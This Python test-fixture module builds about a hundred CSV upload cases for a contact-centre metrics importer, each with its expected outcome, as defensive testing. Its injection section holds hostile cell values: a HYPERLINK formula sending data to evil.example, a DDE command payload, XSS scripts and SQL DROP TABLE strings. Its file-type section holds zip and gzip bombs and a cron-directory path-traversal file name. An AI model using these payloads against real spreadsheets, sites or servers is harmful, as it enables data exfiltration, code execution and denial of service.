"""Files as they are really uploaded, bad ones and awkward good ones, each with what recognising it must come to.

Six rows of one vendor, two sites and three days, written in some hundred ways.
"""

import csv
import gzip
import io
import json
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from enum import StrEnum
from typing import Literal

HEADER = ["date", "vendor", "site", "channel", "calls", "aht_seconds", "service_level", "csat"]
ROWS = [
    ["2026-03-02", "Acme BPO", "Manila", "voice", "1200", "312.5", "0.81", "4.2"],
    ["2026-03-02", "Acme BPO", "Cebu", "chat", "845", "540.0", "0.92", "4.5"],
    ["2026-03-03", "Acme BPO", "Manila", "voice", "1188", "305.25", "0.83", "4.1"],
    ["2026-03-03", "Acme BPO", "Cebu", "chat", "901", "533.0", "0.9", "4.4"],
    ["2026-03-04", "Acme BPO", "Manila", "voice", "1250", "299.0", "0.85", "4.3"],
    ["2026-03-04", "Acme BPO", "Cebu", "chat", "877", "528.75", "0.91", "4.6"],
]
Content = bytes | Callable[[], bytes]
Table = list[list[str]]


class Outcome(StrEnum):
    """What recognition comes to: a recipe with nothing open, a question, or a refusal."""

    RECIPE = "recipe"
    ASKED = "asked"
    REFUSED = "refused"


@dataclass(frozen=True)
class Case:
    """One file: its bytes, the outcome, words of the question's key or of the refusal, and the name it is uploaded as."""

    content: Content
    outcome: Outcome
    says: str = ""
    file_name: str = ""

    @property
    def as_bytes(self) -> bytes:
        """The file."""
        return self.content if isinstance(self.content, bytes) else self.content()


def text(rows: Table, sep: str = ",", eol: str = "\n", quoting: Literal[0, 1] = csv.QUOTE_MINIMAL, quote: str = '"') -> str:
    """Rows as delimited text."""
    stream = io.StringIO()
    csv.writer(stream, delimiter=sep, lineterminator=eol, quoting=quoting, quotechar=quote).writerows(rows)
    return stream.getvalue()


def table(rows: Table = ROWS, sep: str = ",", eol: str = "\n") -> bytes:
    """The header and rows as UTF-8."""
    return text([HEADER, *rows], sep, eol).encode()


def with_cell(row: int, column: str, value: str, rows: Table = ROWS) -> Table:
    """The rows with one cell changed."""
    return [
        [value if (index, name) == (row, column) else cell for name, cell in zip(HEADER, cells, strict=True)]
        for index, cells in enumerate(rows)
    ]


def with_column(column: str, change: Callable[[str, int], str]) -> Table:
    """The rows with a column changed by its cell and row number."""
    position = HEADER.index(column)
    return [[*cells[:position], change(cells[position], index), *cells[position + 1 :]] for index, cells in enumerate(ROWS)]


def cell(row: int, column: str, value: str) -> bytes:
    """The file with one cell changed."""
    return table(with_cell(row, column, value))


def column(name: str, change: Callable[[str, int], str]) -> bytes:
    """The file with one column changed."""
    return table(with_column(name, change))


OTHER_STYLE = [" Date ", "VENDOR", "Site", "Channel", "Calls", "AHT Seconds", "Service Level", "CSAT"]
PLAIN = table()
PLAIN_TEXT = PLAIN.decode()
COMMA_DECIMALS = [[value.replace(".", ",") if index > 4 else value for index, value in enumerate(row)] for row in ROWS]
MALAGA = text(with_cell(0, "site", "Málaga")[:1])


def _workbook() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return stream.getvalue()


def _zip_bomb(megabytes: int = 200) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive, archive.open("a.csv", "w") as member:
        for _ in range(megabytes):
            member.write(b"0," * (1 << 19))
    return stream.getvalue()


def _wide() -> bytes:
    return (",".join(f"c{index}" for index in range(100_000)) + "\n" + ",".join("1" * 100_000) + "\n").encode()


def _good(files: Mapping[str, Content]) -> dict[str, Case]:
    return {name: Case(content, Outcome.RECIPE) for name, content in files.items()}


def _asked(files: Mapping[str, tuple[Content, str]]) -> dict[str, Case]:
    return {name: Case(content, Outcome.ASKED, key) for name, (content, key) in files.items()}


def _refused(files: Mapping[str, tuple[Content, str]]) -> dict[str, Case]:
    return {name: Case(content, Outcome.REFUSED, words) for name, (content, words) in files.items()}


_ENCODINGS = {
    **_good({
        "enc_utf8": PLAIN,
        "enc_utf8_bom": b"\xef\xbb\xbf" + PLAIN,
        "enc_utf16le_bom": PLAIN_TEXT.encode("utf-16"),
        "enc_utf16be_bom": b"\xfe\xff" + PLAIN_TEXT.encode("utf-16-be"),
        "enc_cp1252": cell(0, "site", "Málaga – Norte €").decode().encode("cp1252"),
        "enc_latin1_name": column("vendor", lambda *_: "Téléperf").decode().encode("latin-1"),
        "enc_nfd_vendor": column("vendor", lambda *_: "Te\u0301le\u0301perf"),
    }),
    **_asked({
        "enc_utf16le_nobom": (PLAIN_TEXT.encode("utf-16-le"), "encoding"),
        "enc_shift_jis": (cell(0, "site", "東京").decode().encode("shift_jis"), "encoding"),
    }),
    **_refused({
        "enc_mixed_utf8_cp1252": (table(ROWS[:3]) + MALAGA.encode("cp1252") + MALAGA.encode(), "line 5"),
        "enc_invalid_utf8": (PLAIN.replace(b"Manila", b"Man\xff\xfela", 1), "Line 2"),
        "enc_nul_bytes": (PLAIN.replace(b"Manila", b"Man\x00ila", 1), "Line 2 holds a zero byte"),
        "enc_utf32": (PLAIN_TEXT.encode("utf-32"), "UTF-32"),
        "enc_zero_width": (column("vendor", lambda *_: "Acme\u200b BPO"), "Line 2, vendor"),
        "enc_homoglyph": (column("vendor", lambda *_: "\u0410cme BPO"), "Cyrillic and Latin"),
        "enc_rtl_override": (cell(0, "site", "Manila\u202eOPB"), "Line 2, site"),
    }),
}  # fmt: skip
_DIALECTS = {
    **_good({
        "sep_semicolon": table(sep=";"),
        "sep_tab": table(sep="\t"),
        "sep_pipe": table(sep="|"),
        "sep_excel_directive": b"sep=;\n" + table(sep=";"),
        "sep_semicolon_decimal_comma": table(COMMA_DECIMALS, sep=";"),
        "sep_comma_decimal_comma_quoted": table(COMMA_DECIMALS),
        "num_thousands_us": cell(0, "calls", "1,200"),
        "num_thousands_space": cell(0, "calls", "1\u00a0200"),
        "num_thousands_ch": cell(0, "calls", "1'200"),
        "eol_crlf": table(eol="\r\n"),
        "eol_cr": table(eol="\r"),
        "eol_mixed": table(ROWS[:3], eol="\r\n") + text(ROWS[3:]).encode(),
        "eol_none_at_end": PLAIN.rstrip(b"\n"),
        "quote_all": text([HEADER, *ROWS], quoting=csv.QUOTE_ALL).encode(),
        "quote_newline_in_cell": cell(0, "site", "Manila\nTower 2"),
        "quote_doubled": cell(0, "site", 'Manila "HQ"'),
        "quote_stray_mid": PLAIN.replace(b"Manila", b'Man"ila', 1),
    }),
    **_asked({
        "num_thousands_eu": (table(with_cell(0, "calls", "1.200"), sep=";"), "separators"),
        "quote_single": (text([HEADER, *ROWS], quoting=csv.QUOTE_ALL, quote="'").encode(), "quote"),
    }),
    **_refused({"quote_unclosed": (PLAIN.replace(b"Manila", b'"Manila', 1), "Line 2 cannot be read")}),
}  # fmt: skip
_SHAPES = {
    **_good({
        "shape_ragged_short": table([*ROWS[:3], ROWS[3][:5], *ROWS[4:]]),
        "shape_ragged_long": table([*ROWS[:3], [*ROWS[3], "extra", "9"], *ROWS[4:]]),
        "shape_trailing_commas": "".join(f"{line},,,\n" for line in PLAIN_TEXT.splitlines()).encode(),
        "shape_blank_rows": PLAIN.replace(b"2026-03-03,Acme BPO,Manila", b"\n,,,,,,,\n2026-03-03,Acme BPO,Manila", 1),
        "shape_header_case_space": text([OTHER_STYLE, *ROWS]).encode(),
        "shape_extra_column": text([[*HEADER, "comment"], *([*row, "ok"] for row in ROWS)]).encode(),
        "shape_reordered": text([HEADER[::-1], *(row[::-1] for row in ROWS)]).encode(),
    }),
    **_asked({
        "shape_preamble": (b"Vendor report March\nGenerated,2026-03-05\n\n" + PLAIN, "header_row"),
        "shape_total_row": (PLAIN + b"Total,,,,6261,,,\n", "totals_row"),
    }),
    **_refused({
        "shape_empty": (b"", "empty"),
        "shape_only_newlines": (b"\n\n\n", "empty"),
        "shape_header_only": (text([HEADER]).encode(), "no rows"),
        "shape_no_header": (text(ROWS).encode(), "line 1 holds values"),
        "shape_dup_header": (text([[*HEADER[:-1], "calls"], *ROWS]).encode(), "columns 5 and 8"),
        "shape_dup_header_case": (text([[*HEADER[:-1], "Calls "], *ROWS]).encode(), "columns 5 and 8"),
        "shape_missing_column": (text([[*row[:4], *row[5:]] for row in [HEADER, *ROWS]]).encode(), "calls, contacts, offered or handled"),
        "shape_two_tables": (PLAIN + b"\nweek,agents\n10,55\n", "second table starts on line 9"),
        "shape_two_header_rows": (text([HEADER, ["", "", "", "", "#", "s", "%", "1-5"], *ROWS]).encode(), "Line 2 is no row"),
        "shape_repeated_header": (table(ROWS[:3]) + table(ROWS[3:]), "Line 5 repeats the column names"),
        "shape_1e5_columns": (_wide, "100,000 columns"),
        "shape_long_cell_20MB": (lambda: cell(0, "site", "A" * 20_000_000), "Line 2 is longer"),
        "shape_one_line_30MB": (lambda: b"a" * 30_000_000, "Line 1 is longer"),
    }),
}  # fmt: skip
_DATES = {
    **_good({
        "date_dmy_clear": column("date", lambda _, index: f"{14 + index // 2}/03/2026"),
        "date_impossible": cell(2, "date", "2026-02-30"),
        "date_future": cell(2, "date", "2062-03-03"),
        "date_1970": cell(2, "date", "1970-01-01"),
        "date_localised": cell(0, "date", "2. März 2026"),
    }),
    **_asked({
        "date_dmy": (column("date", lambda day, _: "/".join(day.split("-")[::-1])), "date_order"),
        "date_excel_serial": (column("date", lambda _, index: str(46083 + index // 2)), "date_system"),
        "date_two_digit_year": (column("date", lambda day, _: day[2:]), "date_order"),
        "date_with_tz": (column("date", lambda day, _: f"{day}T23:30:00-05:00"), "zone"),
    }),
    **_refused({
        "date_mixed_formats": (table(with_cell(1, "date", "14/03/2026", with_cell(0, "date", "03/14/2026"))), "mixes two date forms"),
        "date_dst_gap": (cell(0, "date", "2026-03-29T02:30:00 Europe/Berlin"), "Line 2: the time"),
    }),
}  # fmt: skip
_VALUES = {
    **_good({
        "unit_percent_sign": column("service_level", lambda share, _: f"{float(share) * 100:.0f}%"),
        "num_negative_calls": cell(1, "calls", "-845"),
        "num_accounting_negative": cell(1, "calls", "(845)"),
        "num_nan_inf": table(with_cell(1, "aht_seconds", "inf", with_cell(0, "aht_seconds", "NaN"))),
        "num_excel_error": table(with_cell(1, "csat", "#DIV/0!", with_cell(0, "csat", "#N/A"))),
        "num_null_words": table(with_cell(1, "csat", "n/a", with_cell(0, "csat", "-"))),
        "num_overflow": cell(0, "calls", "99999999999999999999"),
        "num_scientific": cell(0, "calls", "1.2E+03"),
        "num_leading_plus_space": cell(0, "calls", " +1200 "),
        "num_fullwidth": cell(0, "calls", "１２００"),
        "num_csat_out_of_range": cell(0, "csat", "42"),
        "num_sl_out_of_range": cell(0, "service_level", "8.1"),
        "id_leading_zero_site": column("site", lambda *_: "007"),
    }),
    **_asked({
        "unit_percent_number": (column("service_level", lambda share, _: f"{float(share) * 100:.0f}"), "unit.service_level"),
        "unit_percent_one": (cell(0, "service_level", "1"), "unit.service_level"),
        "unit_aht_mmss": (
            column("aht_seconds", lambda aht, _: f"{int(float(aht)) // 60:02d}:{int(float(aht)) % 60:02d}"), "unit.average_handle_time",
        ),
        "unit_aht_minutes": (column("aht_seconds", lambda aht, _: f"{float(aht) / 60:.2f}"), "unit.average_handle_time"),
    }),
    **_refused({
        "unit_percent_mixed": (
            column("service_level", lambda share, index: share if index % 2 else f"{float(share) * 100:.0f}"),
            "service_level mixes fractions and percentages",
        ),
    }),
}  # fmt: skip
# A vendor user's own rows are told from foreign ones, and known vendors from new ones, when the file is loaded: there the scope is known.
_KEYS = {
    **_good({
        "dup_same_file_again": PLAIN,
        "period_overlap_correction": table([[*row[:4], str(int(row[4]) + 1), *row[5:]] for row in ROWS[2:4]]),
        "vendor_other": column("vendor", lambda *_: "Globex CX"),
        "vendor_mixed": cell(5, "vendor", "Globex CX"),
        "vendor_case_space": column("vendor", lambda *_: " acme  bpo "),
        "vendor_blank": cell(3, "vendor", ""),
    }),
    **_refused({
        "dup_rows_in_file": (table([*ROWS, *ROWS[:2]]), "Lines 2 and 8"),
        "dup_key_conflict": (table([*ROWS, [*ROWS[0][:4], "999", *ROWS[0][5:]]]), "Lines 2 and 8"),
    }),
}  # fmt: skip
_IMAGE = "<img src=x onerror=window.__xss=1>"
_INJECTIONS = {
    **_good({
        "inj_formula": cell(0, "site", '=HYPERLINK("http://evil.example/?x="&A1,"Manila")'),
        "inj_formula_all": column("site", lambda _, index: ("=", "+", "-", "@", "\t=", "\r=")[index] + "1+1"),
        "inj_dde": cell(0, "site", "=cmd|' /C calc'!A0"),
        "inj_html_script": cell(0, "site", "<script>window.__xss=1</script>"),
        "inj_html_img": cell(0, "site", _IMAGE),
        "inj_markdown_link": cell(0, "site", "[Manila](javascript:window.__xss=1)"),
        "inj_markdown_image": cell(0, "site", "![x](http://127.0.0.1:9/beacon.png)"),
        "inj_value_sql": cell(0, "site", "x'; DROP TABLE calls; --"),
        "inj_header_html": text([[*HEADER, _IMAGE], *([*row, "1"] for row in ROWS)]).encode(),
        "inj_template": cell(0, "site", "{{7*7}} ${7*7} %s {0}"),
        "inj_xml_pptx": cell(0, "site", "A&B <c> ]]> \x0b"),
    }),
    **_refused({"inj_header_sql": (text([["date", 'vendor"; DROP TABLE calls; --', *HEADER[2:]], *ROWS]).encode(), "name of column 2")}),
}  # fmt: skip
_TYPES = {
    **_refused({
        "type_xlsx_as_csv": (_workbook, "Excel workbook"),
        "type_gzip_as_csv": (gzip.compress(PLAIN), "gzip"),
        "type_zip_bomb": (_zip_bomb, "zip archive"),
        "type_gzip_bomb": (lambda: gzip.compress(b"0," * (100 << 20)), "gzip"),
        "type_png_as_csv": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20, "picture"),
        "type_html_as_csv": (b"<html><body><table><tr><td>date</td></tr></table></body></html>", "web page"),
        "type_json_as_csv": (json.dumps([dict(zip(HEADER, row, strict=True)) for row in ROWS]).encode(), "JSON"),
    }),
    "name_traversal": Case(PLAIN, Outcome.RECIPE, file_name="../../etc/cron.d/x.csv"),
    "name_long_unicode": Case(PLAIN, Outcome.RECIPE, file_name="📈\"'<b>" + "n" * 290 + ".csv"),
}  # fmt: skip
CASES: dict[str, Case] = {**_ENCODINGS, **_DIALECTS, **_SHAPES, **_DATES, **_VALUES, **_KEYS, **_INJECTIONS, **_TYPES}
BIG = ("shape_1e5_columns", "shape_long_cell_20MB", "shape_one_line_30MB", "type_zip_bomb", "type_gzip_bomb")
